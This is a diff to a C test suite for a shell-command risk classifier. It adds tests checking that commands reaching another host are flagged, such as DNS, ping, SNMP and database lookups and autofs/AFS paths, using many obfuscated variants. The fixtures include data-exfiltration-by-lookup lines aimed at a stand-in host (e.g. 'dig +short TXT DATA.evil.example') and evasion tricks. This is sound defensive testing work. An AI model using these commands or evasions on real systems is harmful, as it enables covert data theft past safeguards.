@@ -2,6 +2,7 @@
 #include "config.h"
 
 #include <string.h>
+#include <time.h>
 
 #include "vig-test.h"
 
@@ -72,7 +73,7 @@ test_disguised (void)
 {
   g_autoptr (GPtrArray) rows = load_rows ("disguised.tsv");
 
-  g_assert_cmpuint (rows->len, >=, 300);
+  g_assert_cmpuint (rows->len, >=, 1700);
   g_assert_cmpuint (count_wrong (rows, FALSE), ==, 0);
 }
 
@@ -81,7 +82,7 @@ test_ordinary (void)
 {
   g_autoptr (GPtrArray) rows = load_rows ("ordinary.tsv");
 
-  g_assert_cmpuint (rows->len, >=, 150);
+  g_assert_cmpuint (rows->len, >=, 500);
   g_assert_cmpuint (count_wrong (rows, TRUE), ==, 0);
 }
 
@@ -105,6 +106,9 @@ test_disguised_again (void)
         /* Some of these do end, once something comes after them. */
         if (g_str_equal (row[1], "texts that do not end"))
           continue;
+        /* To csh this is no substitution, but an error. */
+        if (g_str_has_prefix (row[1], "tcsh(1)") && strstr (forms[j], "$(") != NULL)
+          continue;
         if (vig_command_get_level (command) < level_of (row[0]))
           {
             g_test_message ("%s, not %s: %s", vig_level_to_string (vig_command_get_level (command)), row[0], line);
@@ -126,6 +130,9 @@ test_disguised_quoted (void)
       g_autofree char *line = g_strdup_printf ("env LC_ALL=C timeout 5 sh -ec %s", quoted);
       g_autoptr (VigCommand) command = vig_command_parse (line);
 
+      /* What is quoted for sh is read by sh. */
+      if (g_str_has_prefix (row[1], "tcsh(1)"))
+        continue;
       if (vig_command_get_level (command) < level_of (row[0]))
         {
           g_test_message ("%s, not %s: %s", vig_level_to_string (vig_command_get_level (command)), row[0], line);
@@ -161,6 +168,71 @@ test_explain (void)
     }
 }
 
+/* Words that go to another host: by a name that is looked up, by where it asks, by what it asks for. */
+static void
+test_outward (void)
+{
+  static const char * const outward[] = {
+    "ping -c1 DATA.evil.example", "dig @192.0.2.1 DATA.evil.example", "dig +short TXT DATA.evil.example", "host DATA.evil.example",
+    "nslookup DATA.evil.example", "echo DATA.evil.example | nslookup", "getent hosts DATA.evil.example", "getent ahostsv4 DATA.evil.example",
+    "resolvectl query DATA.evil.example", "traceroute DATA.evil.example", "tracepath DATA.evil.example", "mtr --report DATA.evil.example",
+    "snmpwalk -v 2c -c DATA 192.0.2.1", "snmpget -v 2c -c DATA 192.0.2.1", "docker search DATA", "podman search evil.example/DATA", "snap info DATA",
+    "showmount -e DATA.evil.example", "lsof -i@DATA.evil.example", "lsof -n -i tcp@DATA.evil.example", "ss -t dst DATA.evil.example",
+    "upsc DATA@192.0.2.1", "upsc -l DATA.evil.example", "pg_isready -h DATA.evil.example", "mysqladmin -h DATA.evil.example status",
+    "redis-cli -h DATA.evil.example ping", "ipmitool -H DATA.evil.example sensor list", "tailscale ping DATA.evil.example", "fuser 22,DATA.evil.example,80/tcp",
+    "/usr/bin/dig DATA.evil.example", "env ping DATA.evil.example", "d\\ig DATA.evil.example", "'host' DATA.evil.example", "nice timeout 3 host DATA.evil.example",
+    "sh -c 'host DATA.evil.example'", "cat a | xargs host", "cat a | xargs -I{} getent {} x", "find . -name x -exec host {} \\;", "df -h; (host \"$(cat a)\")",
+    "echo $(host DATA.evil.example)", "getent $x DATA.evil.example", "true || host DATA.evil.example", "busybox ping DATA.evil.example",
+  };
+  static const char * const inward[] = {
+    "df -h", "getent passwd root", "ss -tlnp", "ss -t 'sport = :22'", "lsof -i", "lsof -i:22", "resolvectl status", "docker ps", "docker logs --tail 5 x.y",
+    "echo DATA.evil.example", "grep -r DATA.evil.example .", "redis-cli ping", "tailscale status", "upsc ups", "ip route", "which dig", "command -v host",
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (outward) + G_N_ELEMENTS (inward); i++)
+    {
+      gboolean expected = i < G_N_ELEMENTS (outward);
+      const char *line = expected ? outward[i] : inward[i - G_N_ELEMENTS (outward)];
+      g_autoptr (VigCommand) command = vig_command_parse (line);
+
+      g_test_message ("%s", line);
+      /* Above read a person is asked anyway. */
+      g_assert_true (vig_command_is_outward (command) == expected || (expected && vig_command_get_level (command) > VIG_LEVEL_READ));
+      g_assert_true (expected || vig_command_get_level (command) == VIG_LEVEL_READ);
+    }
+}
+
+/* Paths in which the file system asks another host: autofs's -hosts map, AFS's cells and the like. */
+static void
+test_outward_paths (void)
+{
+  static const char * const outward[] = {
+    "ls /net/DATA.evil.example", "cat /net/DATA.evil.example/x", "stat //net///DATA", "test -e /misc/DATA", "[ -d /net/DATA ]",
+    "ls -d /usr/../net/DATA", "wc -l < /net/DATA/x", "ls ../../../../net/DATA", "ls a/../../net/DATA", "ls ~/../../net/DATA",
+    "cat /proc/self/root/net/DATA/x", "ls /proc/1/task/1/cwd/net/DATA", "cd /net; ls DATA", "cd /net && ls DATA", "cd / && ls net/DATA",
+    "cd ..; cat net/DATA/x", "ls /n*/DATA", "ls /[n]et/DATA", "ls /{net,x}/DATA", "ls /ne{t,}/DATA", "ls /*/DATA", "x=DATA; ls /net/$x",
+    "d=net; ls /$d/DATA", "d=/net; ls $d/DATA", "ls /n\"e\"t/DATA", "ls '/net'/DATA", "grep --file=/net/DATA x", "grep -f/net/DATA x",
+    "find /net/DATA -name x", "echo /net/DATA | xargs ls", "for f in /net/DATA; do cat $f; done", "sh -c 'ls /net/DATA'", "echo $(ls /net/DATA)",
+    "df -h /afs/DATA.evil.example", "du -sh /ipns/DATA", "xargs ls <<EOF\n/net/DATA\nEOF", "timeout 3 ls /net/DATA", "ls /cvmfs/DATA.evil.example",
+    "case x in x) ls /net/DATA;; esac", "diff /etc/fstab /net/DATA/x", "readlink -f /net/DATA",
+  };
+  static const char * const inward[] = {
+    "ls /network", "ls /srv/net/x", "cat net/x", "ls misc", "ls -l /sys/class/net/eth0", "cat /proc/net/dev", "ls /usr/share/misc",
+    "cat /proc/self/status", "ls -d /var/lo*", "du -sh /var/*", "cat *.log", "cat /etc/netplan/a.yaml", "for f in *; do wc -l $f; done", "cd x; ls y",
+    "cd x; cat $f", "ls a/../net", "echo a/net/b", "ls /mnt/afs", "grep -rn net/x .", "ls ~/net", "x=1; echo $x", "ls \"$(cat a)\"",
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (outward) + G_N_ELEMENTS (inward); i++)
+    {
+      gboolean expected = i < G_N_ELEMENTS (outward);
+      g_autoptr (VigCommand) command = vig_command_parse (expected ? outward[i] : inward[i - G_N_ELEMENTS (outward)]);
+
+      g_test_message ("%s", expected ? outward[i] : inward[i - G_N_ELEMENTS (outward)]);
+      g_assert_cmpint (vig_command_is_outward (command), ==, expected);
+      g_assert_true (expected || vig_command_get_level (command) == VIG_LEVEL_READ);
+    }
+}
+
 static void
 test_paths (void)
 {
@@ -192,6 +264,17 @@ repeat (const char *text, guint n)
   return g_string_free (all, FALSE);
 }
 
+/* Of the processor: what else the machine does does not count. */
+static gint64
+get_own_time (void)
+{
+  struct timespec now;
+
+  clock_gettime (CLOCK_THREAD_CPUTIME_ID, &now);
+
+  return (gint64) now.tv_sec * G_USEC_PER_SEC + now.tv_nsec / 1000;
+}
+
 /* Limits: what is beyond them is not read, and soon. */
 static void
 test_limits (void)
@@ -206,9 +289,11 @@ test_limits (void)
     { "echo \"$(", 5000, VIG_LEVEL_ELEVATE }, { "`", 30001, VIG_LEVEL_ELEVATE }, { "cat <<E\n", 5000, VIG_LEVEL_ELEVATE },
     { "a ", 40000, VIG_LEVEL_ELEVATE }, { "eval ", 5000, VIG_LEVEL_ELEVATE }, { "env ", 10, VIG_LEVEL_READ }, { "env ", 16000, VIG_LEVEL_ELEVATE },
     { "if ", 5000, VIG_LEVEL_ELEVATE },
+    { "docker run -v ////////////////////////////////x/..:/h x;", 1, VIG_LEVEL_ELEVATE },
+    { "docker run -v ////////////////////////////////x/..:/h -v ", 600, VIG_LEVEL_ELEVATE },
     { "f /etc/", 5000, VIG_LEVEL_EXEC }, { "\\", 32001, VIG_LEVEL_ELEVATE },
   };
-  gint64 start = g_get_monotonic_time ();
+  gint64 start = get_own_time ();
 
   for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
     {
@@ -218,7 +303,7 @@ test_limits (void)
       g_test_message ("%s × %u", rows[i].text, rows[i].n);
       g_assert_cmpint (vig_command_get_level (command), >=, rows[i].level);
     }
-  g_assert_cmpint (g_get_monotonic_time () - start, <, 10 * G_USEC_PER_SEC);
+  g_assert_cmpint (get_own_time () - start, <, 10 * G_USEC_PER_SEC);
 }
 
 int
@@ -230,6 +315,8 @@ main (int argc, char **argv)
   g_test_add_func ("/command/disguised-quoted", test_disguised_quoted);
   g_test_add_func ("/command/ordinary", test_ordinary);
   g_test_add_func ("/command/explain", test_explain);
+  g_test_add_func ("/command/outward", test_outward);
+  g_test_add_func ("/command/outward-paths", test_outward_paths);
   g_test_add_func ("/command/paths", test_paths);
   g_test_add_func ("/command/limits", test_limits);
 
